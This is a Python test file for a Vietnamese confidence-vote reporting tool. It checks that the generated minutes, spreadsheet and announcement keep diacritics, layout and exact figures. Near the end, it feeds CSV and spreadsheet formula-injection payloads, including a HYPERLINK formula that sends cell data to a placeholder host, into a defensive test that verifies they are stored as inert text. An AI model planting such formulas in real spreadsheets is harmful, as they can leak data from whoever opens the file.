"""The minutes (PDF, DOCX), the spreadsheet and the announcement, opened again after writing."""

from __future__ import annotations

import dataclasses
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from docx import Document
from fontTools import subset
from fontTools.ttLib import TTFont
from openpyxl import load_workbook
from pypdf import PdfReader

from tinnhiem.domain.errors import FontError
from tinnhiem.domain.tally import RoundResult, tally
from tinnhiem.reports import fonts
from tinnhiem.reports.content import date_words, minutes
from tinnhiem.reports.docx import minutes_docx
from tinnhiem.reports.files import write_documents
from tinnhiem.reports.pdf import minutes_pdf
from tinnhiem.reports.xlsx import EXEMPTIONS_SHEET, RESULTS_SHEET, results_xlsx
from tinnhiem.services import roundfile
from tinnhiem.testing import demo


@pytest.fixture(scope="module")
def result() -> RoundResult:
    round_, totals = roundfile.parse_round(roundfile.load(demo.demo_file()))
    assert totals is not None
    return tally(round_, totals)


@pytest.fixture(scope="module")
def pdf_text(result: RoundResult) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(minutes_pdf(minutes(result))))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


def test_pdf_is_a4(pdf_text: tuple[PdfReader, str]) -> None:
    """Every page is A4 (595 × 842 pt)."""
    reader, _ = pdf_text
    assert {(595, 842)} == {(round(float(p.mediabox.width)), round(float(p.mediabox.height))) for p in reader.pages}


def test_pdf_embeds_its_font(pdf_text: tuple[PdfReader, str]) -> None:
    """The font travels with the file (docs/documents.md: embed the font)."""
    reader, _ = pdf_text
    descriptors = [
        font["/DescendantFonts"][0].get_object()["/FontDescriptor"]
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    ]
    assert descriptors and all("/FontFile2" in d for d in descriptors)


@pytest.mark.parametrize(
    "words",
    [
        "ĐẢNG CỘNG SẢN VIỆT NAM",
        "BIÊN BẢN KIỂM PHIẾU",
        "Trần Thị Bích Hạnh",
        "Tổng số đồng chí được triệu tập: 55; có mặt: 53; vắng mặt: 2.",
        "Mai Xuân Trường",
        "được bầu, bổ nhiệm trong năm lấy phiếu tín nhiệm",
        "Châu Văn Khải",
        "T/M BAN KIỂM PHIẾU",
        "Tỷ lệ % tính trên tổng số phiếu thu về: 53.",
        "88,68%",
    ],
)
def test_pdf_says_it_with_every_diacritic(pdf_text: tuple[PdfReader, str], words: str) -> None:
    """The printed text, read back, keeps every Vietnamese letter."""
    _, text = pdf_text
    assert words in " ".join(text.split())


def test_pdf_has_a_signature_line_for_every_member(pdf_text: tuple[PdfReader, str], result: RoundResult) -> None:
    """R-COMMITTEE: every committee member has a place to sign, the head under T/M."""
    _, text = pdf_text
    flat = " ".join(text.split())
    missing = [m.name for m in result.round.committee if m.name not in flat.split("nhất trí ký tên.")[-1]]
    assert [] == missing


def test_pdf_names_band_and_consequence() -> None:
    """A subject in band 2 is named with what follows under the rule set (docs/rules.md §6)."""
    from tests.conftest import PUBLISHED

    round_, totals = roundfile.parse_round(roundfile.load(PUBLISHED / "vinhphuc-hdnd-2023.yaml"))
    text = " ".join(
        " ".join(p.extract_text() for p in PdfReader(io.BytesIO(minutes_pdf(minutes(tally(round_, totals))))).pages)
        .split()
    )
    assert "Lê Duy Thành" in text and "quá nửa đến dưới hai phần ba" in text and "xin từ chức" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "TM. BAN KIỂM PHIẾU" in text


def test_pdf_renders_to_png(result: RoundResult, tmp_path: Path) -> None:
    """pdftoppm renders the first page (what a person looks at) to a non-empty PNG."""
    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm (poppler-utils) is not installed")
    pdf = tmp_path / "m.pdf"
    pdf.write_bytes(minutes_pdf(minutes(result)))
    subprocess.run(["pdftoppm", "-r", "50", "-png", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "p")], check=True)
    assert (tmp_path / "p-1.png").stat().st_size > 10_000


def test_font_without_vietnamese_is_refused(tmp_path: Path, result: RoundResult) -> None:
    """The fonts-liberation 1.07 trap: a font lacking ơ and ư is refused before printing."""
    family = fonts.find_family()
    options = subset.Options()
    for style, path in family.files.items():
        font = TTFont(path)
        keep = [c for c in font.getBestCmap() if chr(c) not in "ơưƠƯ"]
        subsetter = subset.Subsetter(options)
        subsetter.populate(unicodes=keep)
        subsetter.subset(font)
        font.save(tmp_path / path.name)
        del style
    crippled = fonts.FontFamily("Broken", {s: tmp_path / p.name for s, p in family.files.items()})
    with pytest.raises(FontError) as caught:
        fonts.require_glyphs(crippled, minutes(result).all_text)
    assert "ơ" in caught.value.message() and "ư" in caught.value.message()


def test_docx_reopens_with_the_same_words(result: RoundResult) -> None:
    """python-docx reads the minutes back: title, one table row per subject, signatures."""
    doc = Document(io.BytesIO(minutes_docx(minutes(result))))
    paragraphs = "\n".join(p.text for p in doc.paragraphs)
    assert "BIÊN BẢN KIỂM PHIẾU" in paragraphs and "Mai Xuân Trường" in paragraphs
    header, results, signatures = doc.tables
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in header.cell(0, 1).text
    assert 1 + len(result.subjects) == len(results.rows)
    assert "Trần Thị Bích Hạnh" == results.cell(2, 1).text
    assert all(m.name in signatures.rows[0].cells[0].text + signatures.rows[0].cells[1].text
               for m in result.round.committee)


def test_docx_converts_with_libreoffice(result: RoundResult, tmp_path: Path) -> None:
    """LibreOffice (installed by `make system` for the tests) lays the DOCX out on A4 with every name, diacritics kept."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed: make system (scripts/system-packages.sh all) installs it")
    path = tmp_path / "m.docx"
    path.write_bytes(minutes_docx(minutes(result)))
    subprocess.run([office, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
                   check=True, capture_output=True, timeout=180)
    reader = PdfReader(tmp_path / "m.pdf")
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())  # names wrap in narrow cells
    assert (595, 842) == (round(reader.pages[0].mediabox.width), round(reader.pages[0].mediabox.height))
    assert "BIÊN BẢN KIỂM PHIẾU" in text and "ĐẢNG CỘNG SẢN VIỆT NAM" in text
    assert [] == [s.subject.name for s in result.subjects if s.subject.name not in text]
    signatures = text.rpartition("nhất trí ký tên.")[2]  # the signature block follows the closing sentence
    assert "CÁC THÀNH VIÊN BAN KIỂM PHIẾU" in signatures and "T/M BAN KIỂM PHIẾU TRƯỞNG BAN" in signatures
    assert [] == [m.name for m in result.round.committee if m.name not in signatures]


def test_xlsx_reopens_with_exact_numbers(result: RoundResult) -> None:
    """openpyxl reads back integer counts, two-decimal percentages and the exemptions."""
    book = load_workbook(io.BytesIO(results_xlsx(result)))
    rows = list(book[RESULTS_SHEET].iter_rows(values_only=True))
    header = rows.index(next(r for r in rows if r and r[0] == "STT"))
    first = rows[header + 1]
    assert ("Nguyễn Văn Ân", 47, Decimal("88.68")) == (first[1], first[4], Decimal(str(first[5])))
    assert 12 == len(rows) - header - 1
    assert "Mức tín nhiệm thấp" in rows[header] and "Mức" not in rows[header]  # before: a bare number, unexplained
    assert "Không quá 1/2 tín nhiệm thấp" in first
    assert "20/11/2026" in rows[1][0] and "2026-11-20" not in rows[1][0]  # the date as dd/mm/yyyy
    exempt = list(book[EXEMPTIONS_SHEET].iter_rows(values_only=True))
    assert ["new-in-year", "voted-elsewhere"] == [r[3] for r in exempt[1:]]


def test_write_documents_writes_four_files(result: RoundResult, tmp_path: Path) -> None:
    """Minutes PDF and DOCX, results XLSX and the announcement text, all non-empty."""
    paths = write_documents(result, tmp_path, "demo")
    assert {"minutes_pdf", "minutes_docx", "results_xlsx", "announcement"} == set(paths)
    assert all(p.stat().st_size > 0 for p in paths.values())
    assert "Tất cả 12 đồng chí" in paths["announcement"].read_text(encoding="utf-8")


def test_dates_have_leading_zeros_only_where_due() -> None:
    """NĐ 30/2020: a leading zero for days below 10 and for months 1 and 2 only."""
    import datetime as dt

    assert "Hà Nội, ngày 05 tháng 02 năm 2025" == date_words(dt.date(2025, 2, 5), "Hà Nội")
    assert "Hà Nội, ngày 15 tháng 3 năm 2025" == date_words(dt.date(2025, 3, 15), "Hà Nội")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)",
                                  "\t=1+1", "\r=1+1"])
def test_xlsx_writes_a_formula_looking_name_as_text(result: RoundResult, name: str) -> None:
    """A subject, position, title or body that starts like a formula stays text in the spreadsheet: Excel runs
    nothing (the body's name, first in its row, was written as a formula)."""
    subject = dataclasses.replace(result.subjects[0].subject, name=name, position=name)
    first = dataclasses.replace(result.subjects[0], subject=subject)
    exemption = dataclasses.replace(result.round.exemptions[0], note=name)
    body = dataclasses.replace(result.round.body, name=name)
    round_ = dataclasses.replace(result.round, exemptions=(exemption, *result.round.exemptions[1:]), body=body)
    book = load_workbook(io.BytesIO(results_xlsx(dataclasses.replace(
        result, round=round_, subjects=(first, *result.subjects[1:])))))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == name]
    assert 3 == len(cells)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert [] == [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_csv_values_that_look_like_formulas_get_an_apostrophe() -> None:
    """For any CSV writer: formula-looking text is prefixed, numbers and ordinary names are untouched."""
    from tinnhiem.reports.cells import csv_text

    assert ["'=1+1", "'@A1", "'-2", "Nguyễn Văn Ân", 47] == [csv_text(v) for v in ("=1+1", "@A1", "-2", "Nguyễn Văn Ân", 47)]
